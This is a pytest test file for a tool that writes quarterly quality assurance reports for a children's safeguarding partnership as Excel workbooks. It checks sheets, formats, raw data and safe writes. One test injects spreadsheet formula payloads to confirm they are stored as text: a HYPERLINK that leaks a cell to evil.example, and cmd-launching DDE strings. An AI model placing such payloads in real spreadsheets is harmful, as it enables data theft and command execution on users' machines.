"""The QA report workbook, read back with openpyxl as a user would open it: sheets, headings,
frozen and filtered tables, number formats, the raw data, an empty report, and labels that try
to become formulas."""

from __future__ import annotations

import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from audit_tool.errors import ValidationError
from audit_tool.reporting.report_xlsx import SHEETS, write_report_xlsx
from tests.reporting.sample_report import sample_report, sample_report_empty

PARTNERSHIP = "Northshire Safeguarding Children Partnership"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def raw_rows() -> list[dict]:
    return [
        {
            "audit": f"00000000-0000-0000-0000-00000000000{i}",
            "case": f"C{1000 + i}",
            "team": "Front Door and Assessment",
            "programme": "Neglect dip sample",
            "kind": "looped" if i else "single",
            "finalised": date(2026, 1, 5 + i),
            "overall": "good" if i else "inadequate",
            "voice_of_child": "requires_improvement",
            "family_has_copy": "yes",
            "days_since_last_visit": str(10 + i),
        }
        for i in range(3)
    ]


def write(tmp_path, report=None, raw=None, name="report.xlsx"):
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    target = out / name
    counts = write_report_xlsx(
        sample_report() if report is None else report, raw, target, partnership=PARTNERSHIP
    )
    return target, counts


def header_row(ws) -> int:
    """The table's heading row: the row above the frozen pane."""
    return int(ws.freeze_panes[1:]) - 1


def table(ws, first_row=None, stop_blank=True):
    """The rows of the table under the heading row, as dicts by heading (to the first blank)."""
    top = first_row or header_row(ws)
    rows = [list(r) for r in ws.iter_rows(min_row=top, values_only=True)]
    headers = [h for h in rows[0] if h is not None]
    out = []
    for r in rows[1:]:
        if stop_blank and all(v is None for v in r):
            break
        out.append(dict(zip(headers, r[: len(headers)], strict=True)))
    return out


def column(ws, heading) -> int:
    """The 1-based column of `heading` on the table's heading row."""
    row = header_row(ws)
    for cell in ws[row]:
        if cell.value == heading:
            return cell.column
    raise AssertionError(f"no column {heading!r} on {ws.title}")


def test_sheets_counts_and_no_temporary_file(tmp_path):
    target, counts = write(tmp_path, raw=raw_rows())
    book = load_workbook(target)
    assert (
        book.sheetnames
        == list(SHEETS)
        == [
            "Summary",
            "Grades",
            "Reviews by agency and strand",
            "Own grading scales",
            "Practice areas",
            "Moderation",
            "Feedback",
            "Feedback by team and area",
            "Actions",
            "Compliance",
            "Learning and voices",
            "Raw data",
        ]
    )
    assert list(target.parent.iterdir()) == [target]
    report = sample_report()
    periods = len(report["periods"]) + 1  # the quarters and the total
    total = report["total"]
    assert counts["Summary"] == counts["Actions"] == periods == 5
    groups = 1 + sum(len(total[k]) for k in ("by_team", "by_service_area", "by_agency", "by_theme"))
    assert counts["Grades"] == groups * periods
    assert counts["Practice areas"] == len(total["items"]) * periods
    auditor_rows = sum(len(p["auditors"]) for p in [*report["periods"], total])
    assert counts["Moderation"] == periods + 5 + auditor_rows  # the matrix: 4 grades and a total
    questions = len(total["feedback"]) + len(total["feedback_outside"])
    assert counts["Feedback"] == questions * periods
    assert counts["Compliance"] == len(total["compliance"]) * periods
    assert counts["Learning and voices"] == 0  # no learning themes in the sample
    assert counts["Raw data"] == 3
    # The sample report has none of the v1.1 breakdowns: their sheets say so.
    assert counts["Reviews by agency and strand"] == counts["Own grading scales"] == 0
    assert counts["Feedback by team and area"] == 0


def test_every_table_has_a_bold_frozen_filtered_heading_and_sized_columns(tmp_path):
    target, counts = write(tmp_path, raw=raw_rows())
    book = load_workbook(target)
    for ws in book:
        row = header_row(ws)
        assert ws.freeze_panes == f"A{row + 1}", ws.title
        first = ws.cell(row, 1)
        assert first.value and first.font.b, ws.title
        assert all(c.font.b for c in ws[row] if c.value is not None), ws.title
        assert ws.auto_filter.ref.startswith(f"A{row}:"), ws.title
        last_col = max(c.column for c in ws[row] if c.value is not None)
        assert ws.auto_filter.ref.split(":")[1].startswith(ws.cell(row, last_col).column_letter)
        assert ws.auto_filter.ref.endswith(str(row + len(table(ws)))), ws.title
        # The report's title row, then the sheet's heading line.
        assert ws["A1"].value == f"Quarterly quality assurance report: {PARTNERSHIP}", ws.title
        assert ws["A1"].font.b and ws["A1"].font.sz == 13
        assert ws["A2"].font.b and ws["A2"].value.startswith(ws.title.split()[0]), ws.title
        widths = [ws.column_dimensions[c.column_letter].width for c in ws[row] if c.value]
        assert all(8 <= w <= 47 for w in widths), (ws.title, widths)
    # The Summary's heading lines say what the report is.
    lines = [r[0] for r in book["Summary"].iter_rows(max_row=7, values_only=True)]
    assert lines[:6] == [
        f"Quarterly quality assurance report: {PARTNERSHIP}",
        "Summary: the headline figures, period by period",
        f"Partnership: {PARTNERSHIP}",
        "Period: 2025-10-01 to 2026-09-30, by quarter",
        "Filters: none",
        "Generated: 2026-10-05 09:30",
    ]
    assert PARTNERSHIP in book["Grades"]["A3"].value


def test_summary_figures_formats_and_dates(tmp_path):
    report = sample_report()
    target, _ = write(tmp_path, report)
    ws = load_workbook(target)["Summary"]
    rows = table(ws)
    assert [r["Period"] for r in rows] == ["2025 Q4", "2026 Q1", "2026 Q2", "2026 Q3", "Total"]
    last, total = rows[3], rows[4]
    q3 = report["periods"][-1]
    assert last["% good or better"] == q3["pct_good_or_better"] == 68.8
    assert last["Audits final"] == q3["audits_final"] and isinstance(last["Audits final"], int)
    assert last["Audits planned"] == q3["audits_planned"]
    assert last["Of which single audits"] == q3["audits_single"]
    assert last["Exact agreement %"] == q3["agreement"]["exact_pct"]
    assert last["Kappa (quadratic)"] == q3["agreement"]["kappa_quadratic"]
    assert last["Gwet's AC2"] == q3["agreement"]["gwet_ac2"]
    assert last["Worker feedback %"] == q3["worker_feedback_pct"]
    assert last["Open actions"] == q3["actions"]["open"]
    assert last["Overdue actions"] == q3["actions"]["overdue"]
    assert total["Audits final"] == report["total"]["audits_final"] == 148
    assert total["% good or better"] == report["total"]["pct_good_or_better"]
    assert last["From"] == datetime(2026, 7, 1) and total["To"] == datetime(2026, 9, 30)

    row = header_row(ws) + 4  # 2026 Q3
    pct = ws.cell(row, column(ws, "% good or better"))
    assert pct.data_type == "n" and pct.number_format == "0.0"
    assert ws.cell(row, column(ws, "Worker feedback %")).number_format == "0.0"
    assert ws.cell(row, column(ws, "Kappa (quadratic)")).number_format == "0.000"
    assert ws.cell(row, column(ws, "Audits final")).number_format == "0"
    start = ws.cell(row, column(ws, "From"))
    assert start.is_date and start.number_format == "yyyy-mm-dd"


def test_grades_by_team_and_theme_with_labels(tmp_path):
    report = sample_report()
    target, _ = write(tmp_path, report)
    ws = load_workbook(target)["Grades"]
    rows = table(ws)
    grade_names = report["labels"]["grades"]
    assert list(rows[0])[4:8] == [
        grade_names[g] for g in ("outstanding", "good", "requires_improvement", "inadequate")
    ]
    assert rows[0]["Breakdown"] == "All audits" and rows[4]["Period"] == "Total"
    assert {r["Breakdown"] for r in rows} == {
        "All audits",
        "Team",
        "Service area",
        "Agency",
        "Theme",
    }
    cla = [r for r in rows if r["Group"] == "Children in Care"]  # named from labels.teams
    assert [r["Period"] for r in cla] == ["2025 Q4", "2026 Q1", "2026 Q2", "2026 Q3", "Total"]
    for row, period in zip(cla, [*report["periods"], report["total"]], strict=True):
        group = period["by_team"]["cla"]
        assert row["Audits final"] == group["audits_final"]
        assert row["Good"] == group["overall"]["good"]
        assert row["% good or better"] == group["pct_good_or_better"]
    agencies = {r["Group"] for r in rows if r["Breakdown"] == "Agency"}
    assert agencies == {"Children's Social Care", "Early Help Service"}
    assert {r["Group"] for r in rows if r["Breakdown"] == "Theme"} == {
        "Neglect",
        "Domestic abuse",
        "Exploitation",
    }


def test_practice_areas_grades_yes_no_and_numbers(tmp_path):
    report = sample_report()
    target, _ = write(tmp_path, report)
    ws = load_workbook(target)["Practice areas"]
    rows = table(ws)
    total = report["total"]["items"]
    voice = next(
        r for r in rows if r["Practice area"] == "Voice of the child" and r["Period"] == "Total"
    )
    counts = total["voice_of_child"]["counts"]
    assert voice["Answer"] == "Grade" and voice["Good"] == counts["good"]
    graded = sum(counts.values())
    expected = round(100 * (counts["outstanding"] + counts["good"]) / graded + 1e-9, 1)
    assert voice["% good or better"] == expected
    copy = next(
        r
        for r in rows
        if r["Practice area"].startswith("Family has a copy") and r["Period"] == "Total"
    )
    assert copy["Answer"] == "Yes/no" and copy["Yes"] == total["family_has_copy"]["yes"]
    assert copy["% yes"] == total["family_has_copy"]["pct_yes"] and copy["Good"] is None
    days = next(
        r for r in rows if r["Practice area"].startswith("Days since") and r["Period"] == "Total"
    )
    number = total["days_since_last_visit"]
    assert days["Answer"] == "Number" and days["Answered"] == number["n"]
    assert (days["Min"], days["Mean"], days["Max"]) == (
        number["min"],
        number["mean"],
        number["max"],
    )


def test_moderation_confusion_matrix_and_auditors(tmp_path):
    report = sample_report()
    target, _ = write(tmp_path, report)
    ws = load_workbook(target)["Moderation"]
    agreement = table(ws)
    assert [r["Period"] for r in agreement][-1] == "Total"
    total = report["total"]
    assert agreement[-1]["Pairs"] == total["agreement"]["pairs"]
    assert agreement[-1]["Within one grade %"] == total["agreement"]["within_one_pct"]
    assert agreement[-1]["Moderation raised the grade"] == total["moderation"]["raised"]
    assert agreement[-1]["Lowered"] == total["moderation"]["lowered"]

    values = [r[0] for r in ws.iter_rows(values_only=True)]
    start = values.index("First review's grade") + 1
    assert values[start - 2].startswith("Confusion matrix")
    matrix = table(ws, start)
    labels = report["labels"]["grades"]
    assert [r["First review's grade"] for r in matrix] == [
        labels["outstanding"],
        labels["good"],
        labels["requires_improvement"],
        labels["inadequate"],
        "Total",
    ]
    confusion = total["agreement"]["confusion"]
    for row, expected in zip(matrix, confusion, strict=False):
        assert [
            row[labels[g]] for g in ("outstanding", "good", "requires_improvement", "inadequate")
        ] == expected
        assert row["Total"] == sum(expected)
    assert matrix[-1]["Total"] == total["agreement"]["pairs"]

    start = values.index("Auditor") + 1
    auditors = table(ws, start)
    people = report["labels"]["people"]
    aisha = [r for r in auditors if r["Auditor"] == people["a.khan"]]
    assert aisha[-1]["Period"] == "Total"
    assert aisha[-1]["Reviews"] == total["auditors"]["a.khan"]["reviews"]
    assert aisha[-1]["Mean difference"] == total["auditors"]["a.khan"]["mean_difference"]
    cell = ws.cell(start + len(aisha), 4)  # Aisha Khan sorts first
    assert cell.number_format == "0.00"


def test_feedback_actions_and_compliance(tmp_path):
    report = sample_report()
    target, _ = write(tmp_path, report)
    book = load_workbook(target)
    feedback = table(book["Feedback"])
    question = report["labels"]["questions"]["contactable"]
    inside = [r for r in feedback if r["Question"] == question and r["Gathered"] == "In audits"]
    outside = [
        r for r in feedback if r["Question"] == question and r["Gathered"] == "Outside audits"
    ]
    assert len(inside) == len(outside) == 5
    q3 = report["periods"][-1]
    assert inside[3]["% yes"] == q3["feedback"]["contactable"]["pct_yes"]
    assert inside[3]["Asked"] == q3["feedback"]["contactable"]["asked"]
    assert outside[4]["Partly"] == report["total"]["feedback_outside"]["contactable"]["partly"]

    actions = table(book["Actions"])
    assert actions[-1] == {
        "Period": "Total",
        "Open": report["total"]["actions"]["open"],
        "Overdue": report["total"]["actions"]["overdue"],
        "Done": report["total"]["actions"]["done"],
        "Worker feedback %": report["total"]["worker_feedback_pct"],
    }

    compliance = table(book["Compliance"])
    assert compliance[0]["Manager"] == "Gita Patel"  # names from labels.people, by name
    gita = report["periods"][0]["compliance"]["g.patel"]
    assert (compliance[0]["Due"], compliance[0]["Done"], compliance[0]["Overdue"]) == (
        gita["due"],
        gita["done"],
        gita["overdue"],
    )


def test_raw_data_rows(tmp_path):
    target, _ = write(tmp_path, raw=raw_rows())
    ws = load_workbook(target)["Raw data"]
    rows = table(ws)
    assert list(rows[0]) == [
        "Audit",
        "Case",
        "Team",
        "Programme",
        "Audit kind",
        "Finalised",
        "Overall grade",
        "Voice of the child",
        "Family has a copy of the assessment or plan",
        "Days since the last recorded visit",
    ]
    first = rows[0]
    assert first["Case"] == "C1000" and first["Audit kind"] == "Dip sample (single auditor)"
    assert first["Finalised"] == datetime(2026, 1, 5)
    assert first["Overall grade"] == "Inadequate"
    assert first["Voice of the child"] == "Requires improvement to be good"
    assert first["Family has a copy of the assessment or plan"] == "Yes"
    assert first["Days since the last recorded visit"] == 10  # a number, not text
    row = header_row(ws) + 1
    assert ws.cell(row, 6).is_date and ws.cell(row, 6).number_format == "yyyy-mm-dd"
    assert len(rows) == 3 and ws.auto_filter.ref == f"A{row - 1}:J{row + 2}"


@pytest.mark.parametrize("raw", [None, []])
def test_empty_report_and_no_raw_rows(tmp_path, raw):
    target, counts = write(tmp_path, sample_report_empty(), raw)
    book = load_workbook(target)
    assert book.sheetnames == list(SHEETS)
    assert counts["Raw data"] == 0 and counts["Compliance"] == 0 and counts["Summary"] == 5
    summary = table(book["Summary"])
    assert [r["Audits final"] for r in summary] == [0] * 5
    assert all(r["% good or better"] is None for r in summary)  # an empty cell, not "0" or "-"
    assert all(r["Kappa (quadratic)"] is None for r in summary)
    raw_sheet = book["Raw data"]
    texts = [r[0] for r in raw_sheet.iter_rows(values_only=True) if r[0]]
    assert "There are no final audits in this report." in texts
    compliance = [r[0] for r in book["Compliance"].iter_rows(values_only=True) if r[0]]
    assert "There are no compliance figures in this report." in compliance


def test_without_the_optional_keys(tmp_path):
    report = sample_report()
    for key in ("labels", "filters", "generated_at"):
        del report[key]
    for period in [*report["periods"], report["total"]]:
        for key in (
            "audits_single",
            "audits_planned",
            "by_service_area",
            "by_agency",
            "by_theme",
            "feedback_outside",
            "compliance",
        ):
            del period[key]
        del period["agreement"]["confusion"]
    target, counts = write(tmp_path, report)
    book = load_workbook(target)
    summary = table(book["Summary"])
    assert "Audits planned" not in summary[0] and "Of which single audits" not in summary[0]
    grades = table(book["Grades"])
    assert {r["Breakdown"] for r in grades} == {"All audits", "Team"}
    assert "cla" in {r["Group"] for r in grades}  # no labels: the key
    assert list(grades[0])[4:8] == [  # the PDF's words
        "Outstanding",
        "Good",
        "Requires improvement to be good",
        "Inadequate",
    ]
    assert "First review's grade" not in [
        r[0] for r in book["Moderation"].iter_rows(values_only=True)
    ]
    assert counts["Compliance"] == 0


def test_labels_and_values_never_become_formulas(tmp_path):
    report = sample_report()
    report["labels"]["teams"]["cla"] = HOSTILE
    report["labels"]["questions"]["contactable"] = "=1+1"
    report["labels"]["people"]["a.khan"] = "=cmd|' /C calc'!A0"
    report["labels"]["items"]["voice_of_child"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    report["labels"]["grades"]["good"] = "=2+2"
    report["filters"]["theme"] = "=THEME()"
    raw = raw_rows()
    raw[0]["programme"] = '=HYPERLINK("x")'
    raw[0]["case"] = "+1+1"
    raw[0]["free_text"] = "-2+3"
    raw[1]["free_text"] = "control\x07character"
    target, _ = write(tmp_path, report, raw)

    book = load_workbook(target)
    grades = book["Grades"]
    cells = [c for row in grades.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)
    assert book["Grades"].cell(header_row(grades), 6).value == "=2+2"
    assert "=1+1" in [r["Question"] for r in table(book["Feedback"])]
    assert "filters: theme =THEME()" in book["Feedback"]["A3"].value
    first_raw = table(book["Raw data"])[0]
    assert first_raw["Programme"] == '=HYPERLINK("x")' and first_raw["Case"] == "+1+1"
    assert table(book["Raw data"])[1]["free_text"] == "controlcharacter"
    # No sheet holds a single formula: every value is stored as text.
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
    for ws in book:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(tmp_path, monkeypatch):
    from openpyxl.workbook.workbook import Workbook

    out = tmp_path / "out"
    out.mkdir()
    target = out / "report.xlsx"
    target.write_bytes(b"the previous report")
    save = Workbook.save

    def broken(self, filename):
        save(self, filename)  # the temporary file is written, then the disk fills
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", broken)
    with pytest.raises(ValidationError, match="No space left on device"):
        write_report_xlsx(sample_report(), raw_rows(), target, partnership=PARTNERSHIP)
    assert target.read_bytes() == b"the previous report"
    assert list(out.iterdir()) == [target]


def test_not_a_report_is_refused_and_nothing_written(tmp_path):
    target = tmp_path / "x.xlsx"
    with pytest.raises(ValidationError, match="Not a QA report"):
        write_report_xlsx({"format": "pack"}, None, target, partnership=PARTNERSHIP)
    assert not target.exists()


def test_a_partial_period_says_so_and_a_year_report_is_titled(tmp_path):
    report = sample_report()
    report["periods"][0]["partial"] = True  # the range starts after the quarter began
    report["by"] = "year"
    report["filters"] = {"service_area": "Early help"}
    target, _ = write(tmp_path, report)
    ws = load_workbook(target)["Summary"]
    periods = [r["Period"] for r in table(ws)]
    assert periods == ["2025 Q4 (partial)", "2026 Q1", "2026 Q2", "2026 Q3", "Total"]
    cells = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert f"Annual quality assurance report: {PARTNERSHIP}" in cells
    assert any("service area Early help" in c for c in cells)
